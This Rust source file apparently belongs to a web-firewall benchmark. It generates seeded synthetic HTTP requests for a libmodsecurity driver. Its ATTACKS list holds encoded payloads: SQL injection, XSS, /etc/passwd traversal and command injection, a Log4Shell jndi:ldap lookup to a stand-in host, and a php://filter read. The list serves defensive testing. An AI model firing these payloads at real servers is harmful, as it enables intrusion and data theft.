//! Requests of each kind, made by code from a seed, as `peers/libmodsecurity/driver.c` reads them.
//!
//! No two have the same parameters or the same session, and each kind is more than our engine
//! remembers of values: what it knows from a round before helps it no more than it would with
//! as many different visitors.

use std::fmt::Write;
use std::path::{Path, PathBuf};

/// Requests of one kind in a file.
pub(crate) struct Mix {
    pub(crate) name: &'static str,
    pub(crate) file: PathBuf,
    pub(crate) requests: f64,
    /// The first of them, for engines that take long.
    pub(crate) short: PathBuf,
    pub(crate) short_requests: f64,
    pub(crate) attacks: bool,
}

type Make = fn(&mut Seed) -> Vec<u8>;

const MIXES: &[(&str, u32, Make)] = &[
    ("mixed", 600, mixed),
    ("GET", 600, get),
    ("form", 400, form),
    ("JSON, 2 kB", 100, |seed| order(seed, 31)),
    ("JSON, 64 kB", 12, |seed| order(seed, 1_050)),
    ("multipart", 200, multipart),
    ("attacks", 600, attack),
];
/// The part of them that is written apart.
const SHORT: u32 = 20;

const WORDS: &[&str] = &[
    "garden", "chair", "blue", "large", "oak", "table", "lamp", "kitchen", "wooden", "outdoor",
    "metal", "soft", "warm", "winter", "summer", "price", "street", "city", "gift", "paper",
];

/// With a number for each `#`.
const ATTACKS: &[&str] = &[
    "#%27%20or%20%27#%27=%27#",
    "%3Cscript%3Ealert(#)%3C/script%3E",
    "../../../../etc/passwd%00#",
    "#;cat%20/etc/passwd",
    "#%20union%20select%20password#%20from%20users",
    "%24%7Bjndi:ldap://x#.example/a%7D",
    "php://filter/convert.base64-encode/resource=index#",
    "%7B%7B#*#%7D%7D%3Cimg%20src=x#%20onerror=alert(#)%3E",
];

/// Writes each mix to a file of the folder.
pub(crate) fn write(folder: &Path) -> anyhow::Result<Vec<Mix>> {
    let mut seed = Seed(5);
    let mut mixes = Vec::new();
    for (at, (name, count, make)) in MIXES.iter().enumerate() {
        let requests: Vec<Vec<u8>> = (0..*count).map(|_| make(&mut seed)).collect();
        let few = count.div_ceil(SHORT);
        let short = requests.get(..few as usize).unwrap_or_default();
        let mix = Mix {
            name,
            file: folder.join(format!("mix-{at}")),
            requests: f64::from(*count),
            short: folder.join(format!("mix-{at}-short")),
            short_requests: f64::from(few),
            attacks: *name == "attacks",
        };
        std::fs::write(&mix.file, requests.concat())?;
        std::fs::write(&mix.short, short.concat())?;
        mixes.push(mix);
    }
    Ok(mixes)
}

/// splitmix64.
struct Seed(u64);

impl Seed {
    fn below(&mut self, most: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % most.max(1) as u64) as usize
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of.get(self.below(of.len())).copied().unwrap_or_default()
    }

    fn words(&mut self, count: usize, between: &str) -> String {
        let words: Vec<&str> = (0..count).map(|_| self.one(WORDS)).collect();
        words.join(between)
    }
}

fn mixed(seed: &mut Seed) -> Vec<u8> {
    match seed.below(5) {
        0..3 => get(seed),
        3 => form(seed),
        _ => order(seed, 3),
    }
}

fn get(seed: &mut Seed) -> Vec<u8> {
    let path = seed.one(&[
        "/catalogue",
        "/products/chairs/",
        "/api/v1/items",
        "/search",
    ]);
    let target = format!(
        "{path}?q={}&page={}&sort={}&ref={:08x}",
        seed.words(2, "+"),
        seed.below(90),
        seed.one(&["price", "name", "date"]),
        seed.below(1 << 32)
    );
    request(seed, "GET", &target, None)
}

fn attack(seed: &mut Seed) -> Vec<u8> {
    let number = seed.below(1 << 32).to_string();
    let attack = seed.one(ATTACKS).replace('#', &number);
    let target = format!("/search?q={attack}&page={}", seed.below(90));
    request(seed, "GET", &target, None)
}

fn form(seed: &mut Seed) -> Vec<u8> {
    let body = format!(
        "name={}&email=ann.{}%40example.org&street={}+Long+Street&city=Springfield&zip={:05}&note={}.&csrf={:016x}",
        seed.words(2, "+"),
        seed.below(999),
        seed.below(99),
        seed.below(99_999),
        seed.words(12, "+"),
        seed.below(usize::MAX)
    );
    let kind = "application/x-www-form-urlencoded";
    request(seed, "POST", "/checkout/address", Some((kind, &body)))
}

/// A document with three leaves for each item, and five more.
fn order(seed: &mut Seed, items: usize) -> Vec<u8> {
    let mut body = format!("{{\"order\":\"{:08x}\",\"items\":[", seed.below(1 << 32));
    for item in 0..items {
        let comma = if item == 0 { "" } else { ", " };
        // A string takes whatever is written.
        let _: std::fmt::Result = write!(
            body,
            "{comma}{{\"sku\": \"{}-{}\", \"qty\": {}, \"price\": {}.{:02}}}",
            seed.one(WORDS),
            seed.below(9999),
            seed.below(9) + 1,
            seed.below(999),
            seed.below(100)
        );
    }
    let _: std::fmt::Result = write!(
        body,
        "],\"customer\":{{\"name\":\"{}\",\"email\":\"ann@example.net\"}},\"note\":\"{}\",\"total\":{}}}",
        seed.words(2, " "),
        seed.words(8, " "),
        seed.below(9999)
    );
    request(
        seed,
        "POST",
        "/api/v1/orders",
        Some(("application/json", &body)),
    )
}

fn multipart(seed: &mut Seed) -> Vec<u8> {
    let part = |head: &str, content: &str| {
        format!("--form-boundary-7\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n")
    };
    let body = [
        part("name=\"title\"", &seed.words(3, " ")),
        part("name=\"album\"", &seed.below(999).to_string()),
        part(
            "name=\"photo\"; filename=\"garden.txt\"\r\nContent-Type: text/plain",
            &seed.words(600, " "),
        ),
        "--form-boundary-7--\r\n".to_owned(),
    ]
    .concat();
    let kind = "multipart/form-data; boundary=form-boundary-7";
    request(seed, "POST", "/albums/photos", Some((kind, &body)))
}

/// With a browser's twelve headers, and those of a body.
fn request(seed: &mut Seed, method: &str, target: &str, body: Option<(&str, &str)>) -> Vec<u8> {
    let referer = format!("https://shop.example.org/catalogue?page={}", seed.below(90));
    let cookie = format!(
        "session={:016x}{:016x}; theme=dark; cart={}-{}-{}",
        seed.below(usize::MAX),
        seed.below(usize::MAX),
        seed.below(99),
        seed.below(9),
        seed.below(999),
    );
    let mut headers = vec![
        ("Host", "shop.example.org"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
        ),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Referer", &*referer),
        ("Cookie", &*cookie),
        ("Connection", "keep-alive"),
        ("Upgrade-Insecure-Requests", "1"),
        ("Sec-Fetch-Dest", "document"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Cache-Control", "max-age=0"),
    ];
    let (kind, body) = body.unwrap_or_default();
    let length = body.len().to_string();
    if !body.is_empty() {
        headers.push(("Content-Type", kind));
        headers.push(("Content-Length", &length));
    }
    let mut bytes = Vec::new();
    for text in [method, target, "1.1"] {
        field(&mut bytes, text);
    }
    bytes.extend_from_slice(&(headers.len() as u32).to_le_bytes());
    for (name, value) in headers {
        field(&mut bytes, name);
        field(&mut bytes, value);
    }
    field(&mut bytes, body);
    bytes
}

fn field(bytes: &mut Vec<u8>, text: &str) {
    bytes.extend_from_slice(&(text.len() as u32).to_le_bytes());
    bytes.extend_from_slice(text.as_bytes());
}
